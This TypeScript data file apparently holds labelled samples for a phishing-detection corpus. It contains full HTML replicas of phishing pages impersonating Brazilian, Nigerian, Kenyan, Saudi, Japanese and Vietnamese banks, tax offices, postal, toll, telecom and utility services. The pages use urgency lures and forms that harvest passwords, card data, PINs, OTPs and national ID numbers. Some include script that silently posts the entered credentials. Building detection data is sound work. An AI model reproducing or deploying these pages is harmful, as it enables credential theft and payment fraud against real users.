import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, gtag, cookieBar, footer, nav, baseCss, cardFields, pngR, js, json } from '../parts/o-kit.js';

// Reported phishing from Brazil, Mexico, Nigeria, Kenya, UAE, Saudi Arabia, Indonesia, Japan and Vietnam.

export const entries: Entry[] = [
{
  id: 'o-phish-br-receita-cpf-irregular',
  label: 'phishing',
  kind: 'tax-office',
  url: 'https://regularizacao-cpf.gov-br.app/consulta',
  body: doc({
    lang: 'pt-BR',
    title: 'gov.br - Receita Federal - Regularização de CPF',
    css: baseCss('Rawline, Arial, sans-serif', '#f8f8f8') + `header{background:#fff;box-shadow:0 1px 6px rgba(0,0,0,.12);padding:14px 6%;display:flex;align-items:center;gap:14px}.g{font-weight:900;font-size:24px;color:#1351b4}.g span{color:#ffcd07}.btn{background:#1351b4;border-radius:24px;width:100%}.al{background:#fde0db;border-left:4px solid #e52207;padding:12px;margin:14px 0}`,
    body: `<header><span class="g">gov<span>.</span>br</span><span class="muted">Ministério da Fazenda · Receita Federal</span></header>
<main style="max-width:560px">
<div class="al"><b>Atenção:</b> seu CPF consta como <b>PENDENTE DE REGULARIZAÇÃO</b> devido à ausência da Declaração de Imposto de Renda 2026. A regularização deve ser feita até hoje para evitar bloqueio de contas bancárias e do Pix.</div>
<div class="card" id="c1"><h1 style="font-size:20px">Consulte sua situação cadastral</h1>
<label>CPF</label><input id="cpf" placeholder="000.000.000-00" maxlength="14"><button class="btn" id="b1">Consultar</button></div>
<div class="card" id="c2" style="display:none"><h2 style="font-size:18px">Resultado</h2><p>Nome: <b id="nm">CONTRIBUINTE</b><br>Situação: <b style="color:#e52207">IRREGULAR</b><br>Multa por atraso (DARF): <b>R$ 164,37</b></p>
<p>Pague o DARF via Pix para regularizar imediatamente. A baixa é automática em até 10 minutos.</p>
<div style="text-align:center"><img src="/consulta/qr.png" width="160" height="160" alt="QR Code Pix" style="background:#eee"><p style="font-family:monospace;font-size:11px;word-break:break-all">00020126580014BR.GOV.BCB.PIX0136a9f1c3e2-7b41-4d6e-9c55-2f0e8a7d1b3c5204000053039865406164.375802BR5922RECEITA DARF ARRECAD6009SAO PAULO62070503***6304A1F2</p><button class="btn" onclick="navigator.clipboard.writeText(this.previousElementSibling.textContent)">Copiar código Pix</button></div></div>
</main>
${footer([['Receita Federal', ['Meu Imposto de Renda', 'CPF', 'Ouvidoria']]], 'Todo o conteúdo deste site está publicado sob a licença Creative Commons Atribuição-SemDerivações 3.0', '#071d41', '#fff')}
<script>b1.onclick=function(){fetch('/consulta/api.php?cpf='+encodeURIComponent(cpf.value)).then(function(r){return r.json()}).then(function(j){nm.textContent=j.nome}).catch(function(){});c1.style.display='none';c2.style.display='block'};</script>`,
  }),
  routes: {
    'regularizacao-cpf.gov-br.app/consulta/api.php': json({ nome: 'MARIA APARECIDA DOS SANTOS', situacao: 'PENDENTE' }),
    'regularizacao-cpf.gov-br.app/consulta/qr.png': pngR(0, 0, 0),
  },
},
{
  id: 'o-phish-br-caixa-atualizacao',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://caixa-atualizacao-cadastral.com/internet-banking/sso/',
  body: doc({
    lang: 'pt-BR',
    title: 'CAIXA | Internet Banking',
    css: baseCss('"Futura", Arial, sans-serif', '#f2f2f2') + `header{background:#005ca9;color:#fff;padding:14px 6%;font-size:26px;font-weight:900;letter-spacing:2px}header span{color:#f39200}.btn{background:#f39200;width:100%}.kb{display:grid;grid-template-columns:repeat(5,1fr);gap:6px;margin:8px 0}.kb button{padding:10px;background:#e8eef5;border:1px solid #c7d3e0;border-radius:4px}`,
    body: `<header>CAI<span>X</span>A</header>
<main style="max-width:440px"><div class="card"><h1 style="font-size:20px">Acesse sua conta</h1>
<p class="muted">Atualização cadastral obrigatória – Resolução BCB nº 403.</p>
<form method="post" action="/internet-banking/sso/auth.php"><label>Usuário ou CPF</label><input name="usuario">
<label>Senha de internet (8 dígitos)</label><input type="password" id="pw" name="senha" readonly>
<div class="kb" id="kb"></div>
<label>Assinatura eletrônica (6 dígitos)</label><input type="password" name="assinatura" maxlength="6">
<button class="btn">Entrar</button></form></div>
<p class="muted">SAC CAIXA 0800 726 0101 · Ouvidoria 0800 725 7474</p></main>
<script>var ds=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5});for(var i=0;i<5;i++){var b=document.createElement('button');b.type='button';b.textContent=ds[i*2]+' ou '+ds[i*2+1];b.onclick=(function(v){return function(){pw.value+=v}})(ds[i*2]+''+ds[i*2+1]);kb.appendChild(b);}</script>`,
  }),
},
{
  id: 'o-phish-br-correios-taxa',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://rastreio-correios.encomenda-taxada.com/objeto/NL482910237BR',
  body: doc({
    lang: 'pt-BR',
    title: 'Correios - Rastreamento de Objetos',
    css: baseCss('Arial, sans-serif', '#f3f3f3') + `header{background:#ffe600;padding:12px 6%;font-weight:800;color:#00416b;font-size:22px}.tl li{margin:10px 0}.btn{background:#00416b;width:100%}`,
    body: `<header>Correios</header>
<main style="max-width:560px"><div class="card"><h1 style="font-size:20px">Objeto NL482910237BR</h1>
<ul class="tl"><li><b>Aguardando pagamento</b> – Unidade de Tratamento, CURITIBA/PR</li><li>Encaminhado para fiscalização aduaneira</li><li>Objeto recebido pelos Correios do Brasil</li></ul>
<p>Seu objeto foi <b>taxado</b>. Valor do imposto de importação + despacho postal: <b>R$ 63,90</b>. Após 5 dias úteis sem pagamento o objeto será devolvido ao remetente.</p>
<form method="post" action="/objeto/pagar.php"><label>CPF do destinatário</label><input name="cpf">
${cardFields({ num: 'Número do cartão', exp: 'Validade', cvv: 'CVV', name: 'Nome impresso no cartão' })}
<label>Parcelas</label><select name="parc"><option>1x de R$ 63,90</option><option>2x de R$ 31,95</option></select>
<button class="btn">Pagar e liberar objeto</button></form></div></main>
<p class="muted" style="text-align:center">© Copyright 2026 Correios</p>`,
  }),
},
{
  id: 'o-phish-ng-gtbank-bvn',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://gtbank-bvn-update.com.ng.verify-portal.xyz/ibank/',
  body: doc({
    lang: 'en-NG',
    title: 'GTBank Internet Banking | BVN Revalidation',
    css: baseCss('Arial, sans-serif', '#f6f6f6') + `header{background:#dd4f05;color:#fff;padding:14px 6%;font-weight:800;font-size:22px}.btn{background:#dd4f05;width:100%}`,
    body: `<header>GTBank <span style="font-size:13px;font-weight:400">Guaranty Trust Bank Ltd</span></header>
<main style="max-width:480px"><div class="card">
<h1 style="font-size:20px">CBN Directive: BVN/NIN Linkage</h1>
<p>In line with the Central Bank of Nigeria directive, all accounts not linked to a valid BVN and NIN by <b>30th November 2026</b> will be placed on Post No Debit (PND). Kindly revalidate below.</p>
<form method="post" action="/ibank/process.php"><label>User ID / Account Number</label><input name="uid"><label>Password</label><input type="password" name="pw"><label>BVN</label><input name="bvn" maxlength="11"><label>NIN</label><input name="nin" maxlength="11"><label>Token / OTP</label><input name="otp"><label>Card PIN</label><input type="password" name="pin" maxlength="4">
<button class="btn">Revalidate Account</button></form></div>
<p class="muted">Orange Means More. © 2026 Guaranty Trust Bank Ltd. RC 152321</p></main>`,
  }),
},
{
  id: 'o-phish-ke-kra-itax-refund',
  label: 'phishing',
  kind: 'tax-office',
  url: 'https://itax-kra-go-ke.refund-claims.org/KRA-Portal/',
  body: doc({
    lang: 'en-KE',
    title: 'iTax - Kenya Revenue Authority',
    css: baseCss('Arial, sans-serif', '#f0f0f0') + `header{background:#ed1c24;color:#fff;padding:12px 6%;font-weight:700}.btn{background:#333;width:100%}`,
    body: `<header>Kenya Revenue Authority · iTax</header>
<main style="max-width:480px"><div class="card"><h1 style="font-size:19px">Tax Refund Notification</h1>
<p>After the last annual calculation of your fiscal activity, you are eligible to receive a tax refund of <b>KES 23,480.00</b>. Please submit the refund request and allow 3-5 business days.</p>
<form method="post" action="/KRA-Portal/refund.php"><label>PIN</label><input name="pin" placeholder="A00XXXXXXXX"><label>Password</label><input type="password" name="password"><label>Bank card for refund</label>${cardFields({ num: 'Card number', exp: 'Expiry', cvv: 'CVV' })}<button class="btn">Submit refund request</button></form></div></main>`,
  }),
},
{
  id: 'o-phish-sa-absher-update',
  label: 'phishing',
  kind: 'national-id',
  url: 'https://absher-sa.gov-update.info/login',
  body: doc({
    lang: 'ar',
    dir: 'rtl',
    title: 'أبشر - تحديث البيانات',
    css: baseCss('Tahoma, Arial, sans-serif', '#f3f6f4') + `header{background:#0e7a4b;color:#fff;padding:14px 6%;font-weight:700;font-size:22px}.btn{background:#0e7a4b;width:100%}`,
    body: `<header>أبشر | وزارة الداخلية</header>
<main style="max-width:460px"><div class="card"><h1 style="font-size:20px">تسجيل الدخول - أفراد</h1>
<p>عزيزي المستفيد، يجب تحديث بيانات هويتك الوطنية لتجنب إيقاف الخدمات الإلكترونية.</p>
<form id="f"><label>اسم المستخدم أو رقم الهوية</label><input name="id" dir="ltr"><label>كلمة المرور</label><input type="password" name="pw"><button class="btn">تسجيل الدخول</button></form>
<form id="o" style="display:none" method="post" action="/login/otp.php"><p>تم إرسال رمز التحقق إلى جوالك المسجل</p><label>رمز التحقق</label><input name="otp" maxlength="6" dir="ltr"><button class="btn">تحقق</button></form></div></main>
<script>f.onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/login/c.php',new FormData(f));f.style.display='none';o.style.display='block'}</script>`,
  }),
},
{
  id: 'o-phish-jp-etc-meisai',
  label: 'phishing',
  kind: 'toll-fee',
  url: 'https://etc-meisai.jp-service.top/etc/R?funccode=1013000000',
  body: doc({
    lang: 'ja',
    title: 'ETC利用照会サービス',
    css: baseCss('"Hiragino Kaku Gothic ProN", Meiryo, sans-serif', '#f6f6f6') + `header{background:#006934;color:#fff;padding:14px 6%;font-weight:700}.btn{background:#006934;width:100%}.note{background:#fff4e5;border:1px solid #f0c36d;padding:10px;font-size:14px}`,
    body: `<header>ETC利用照会サービス</header>
<main style="max-width:520px"><div class="note">【重要】お客様のETCサービスは無効になりました。引き続きご利用いただくには、以下のリンクから詳細をご確認ください。登録の有効期限が切れると、ETCカードがご利用いただけなくなります。</div>
<div class="card" style="margin-top:14px"><h1 style="font-size:19px">ログイン</h1>
<form id="f" method="post" action="/etc/R/login.php"><label>ユーザーID</label><input name="uid"><label>パスワード</label><input type="password" name="pw">
<h2 style="font-size:16px">お支払い情報の確認</h2><label>氏名（カナ）</label><input name="kana"><label>生年月日</label><input name="dob" placeholder="1980/01/01"><label>電話番号</label><input name="tel">
${cardFields({ num: 'カード番号', exp: '有効期限', cvv: 'セキュリティコード' })}<button class="btn">確認する</button></form></div>
<p class="muted">Copyright © 2026 NEXCO東日本 NEXCO中日本 NEXCO西日本 All rights reserved.</p></main>`,
  }),
},
{
  id: 'o-phish-jp-au-pay-mail',
  label: 'phishing',
  kind: 'telco-bill',
  url: 'https://connect-au-id.auone-jp.support/login/',
  body: doc({
    lang: 'ja',
    title: 'au ID ログイン',
    css: baseCss('Meiryo, sans-serif', '#fff') + `header{border-bottom:3px solid #eb5505;padding:14px 6%;font-weight:900;color:#eb5505;font-size:26px}.btn{background:#eb5505;width:100%;border-radius:24px}`,
    body: `<header>au</header>
<main style="max-width:420px"><h1 style="font-size:20px">au IDでログイン</h1>
<p style="font-size:14px">ご利用料金のお支払いが確認できておりません。サービス停止を避けるため、お支払い方法を更新してください。</p>
<form id="f"><label>au ID（電話番号/メールアドレス）</label><input name="id"><label>パスワード</label><input type="password" name="pw"><button class="btn">次へ</button></form>
<form id="c" style="display:none" method="post" action="/login/card.php">${cardFields({ num: 'クレジットカード番号', exp: '有効期限', cvv: 'セキュリティコード', name: 'カード名義' })}<label>暗証番号（4桁）</label><input type="password" name="pin" maxlength="4"><button class="btn">更新する</button></form>
<p class="muted">© KDDI</p></main>
<script>f.onsubmit=function(e){e.preventDefault();fetch('/login/id.php',{method:'POST',body:new FormData(f)}).catch(function(){});f.style.display='none';c.style.display='block'};</script>`,
  }),
},
{
  id: 'o-phish-vn-evn-hoan-tien',
  label: 'phishing',
  kind: 'utility-bill',
  url: 'https://cskh-evn-hoantien.com/',
  body: doc({
    lang: 'vi',
    title: 'EVN - Hoàn tiền điện',
    css: baseCss('Arial, sans-serif', '#f0f5fa') + `header{background:#0055a5;color:#fff;padding:14px 6%;font-weight:800;font-size:20px}.btn{background:#e2231a;width:100%}`,
    body: `<header>EVN · Tập đoàn Điện lực Việt Nam</header>
<main style="max-width:500px"><div class="card"><h1 style="font-size:20px">Hoàn tiền điện thu thừa tháng 10/2026</h1>
<p>Do sai sót trong ghi chỉ số công tơ, quý khách được hoàn <b>486.000đ</b>. Vui lòng điền thông tin tài khoản ngân hàng để nhận tiền.</p>
<form method="post" action="/nhan-tien.php"><label>Mã khách hàng (PE...)</label><input name="ma"><label>Họ và tên</label><input name="ten"><label>Số CCCD</label><input name="cccd"><label>Ngân hàng</label><select name="nh"><option>Vietcombank</option><option>VietinBank</option><option>BIDV</option><option>Techcombank</option><option>MB Bank</option></select><label>Tên đăng nhập Internet Banking</label><input name="ib"><label>Mật khẩu</label><input type="password" name="mk"><button class="btn">Nhận tiền hoàn</button></form></div></main>`,
  }),
},
{
  id: 'o-phish-vn-vcb-digibank',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://vietcombank-smartotp.vn-xacthuc.com/vcbdigibank/login',
  body: doc({
    lang: 'vi',
    title: 'VCB Digibank - Đăng nhập',
    css: baseCss('Arial, sans-serif', '#f4f7f4') + `header{background:#006b3f;color:#fff;padding:14px 6%;font-weight:800;font-size:20px}.btn{background:#74b842;width:100%}`,
    body: `<header>Vietcombank · VCB Digibank</header>
<main style="max-width:420px"><div class="card"><h1 style="font-size:19px">Cập nhật sinh trắc học</h1>
<p style="font-size:14px">Theo quy định của NHNN, tài khoản chưa xác thực sinh trắc học sẽ bị tạm dừng giao dịch trực tuyến từ ngày 01/12/2026.</p>
<form id="f"><label>Tên đăng nhập</label><input name="u"><label>Mật khẩu</label><input type="password" name="p"><button class="btn">Đăng nhập</button></form>
<form id="o" style="display:none" method="post" action="/vcbdigibank/otp"><label>Mã OTP (Smart OTP)</label><input name="otp" maxlength="6"><button class="btn">Xác nhận</button></form></div></main>
<script>f.onsubmit=function(e){e.preventDefault();fetch('/vcbdigibank/l',{method:'POST',body:JSON.stringify(Object.fromEntries(new FormData(f)))}).catch(function(){});f.style.display='none';o.style.display='block'};</script>`,
  }),
},
];
